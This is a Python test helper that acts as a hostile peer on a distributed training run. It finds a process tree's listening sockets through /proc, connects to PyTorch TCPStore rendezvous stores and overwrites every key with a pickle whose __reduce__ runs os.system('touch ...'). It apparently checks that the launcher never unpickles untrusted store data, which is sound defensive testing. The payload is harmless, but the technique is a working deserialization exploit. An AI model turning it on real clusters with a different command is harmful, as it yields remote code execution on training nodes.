"""A stranger on the network of a run: finds its listening sockets, and writes pickles into every store behind them.

As a program: ``python -m tests.launch.stranger FILE HOST:PORT …`` attacks these stores; ``FILE`` is made
wherever one of the pickles is read.
"""

import base64
import os
import pickle
import sys
from collections.abc import Iterator
from contextlib import suppress
from datetime import timedelta
from pathlib import Path
from typing import Any

from fsdptoys.launch.rendezvous_state import KEY

LISTENING = "0A"


class Touches:
    """Makes a file where it is unpickled."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> Any:
        return os.system, (f"touch {self.path}",)


def processes_of(root: int) -> list[int]:
    """A process and all that it has started."""
    children: dict[int, list[int]] = {}
    for entry in Path("/proc").iterdir():
        if entry.name.isdecimal():
            try:
                parent = int((entry / "stat").read_text().rpartition(")")[2].split()[1])
            except OSError:
                continue
            children.setdefault(parent, []).append(int(entry.name))
    found = [root]
    for process in found:
        found += children.get(process, [])
    return found


def listening_sockets(root: int) -> set[tuple[str, int]]:
    """Addresses, as the kernel writes them (``0100007F`` is 127.0.0.1), and ports of a process and its children."""
    inodes = set()
    for process in processes_of(root):
        with suppress(OSError):  # it has ended
            for link in Path(f"/proc/{process}/fd").iterdir():
                with suppress(OSError):  # it was closed
                    inodes.add(os.readlink(link).removeprefix("socket:[").removesuffix("]"))
    return {(address, port) for inode, address, port in _all_listening(root) if inode in inodes}


def _all_listening(root: int) -> Iterator[tuple[str, str, int]]:
    for name in ("tcp", "tcp6", "udp", "udp6"):
        # of the network namespace that the process is in
        for line in Path(f"/proc/{root}/net/{name}").read_text().splitlines()[1:]:
            words = line.split()
            address, port = words[1].split(":")
            if words[3] == LISTENING or name.startswith("udp"):
                yield words[9], address, int(port, 16)


def attack(host: str, port: int, path: str) -> int:
    """Overwrite every key of a store with a pickle, raw and in base64; returns how many keys there were."""
    from torch.distributed import TCPStore

    try:
        store = TCPStore(host, port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=1))
        # Older versions of torch do not list them.
        keys = store.list_keys() if hasattr(store, "list_keys") else [KEY, "torch.rendezvous.fsdptoys"]
    except Exception:
        return 0  # it is no store
    pickled = pickle.dumps(Touches(path))
    for key in keys:
        for value in (pickled, base64.b64encode(pickled)):
            store.set(key, value)  # type: ignore[arg-type]
    return len(keys)


if __name__ == "__main__":
    places = [place.rsplit(":", 1) for place in sys.argv[2:]]
    print(sum(attack(host, int(port), sys.argv[1]) for host, port in places))
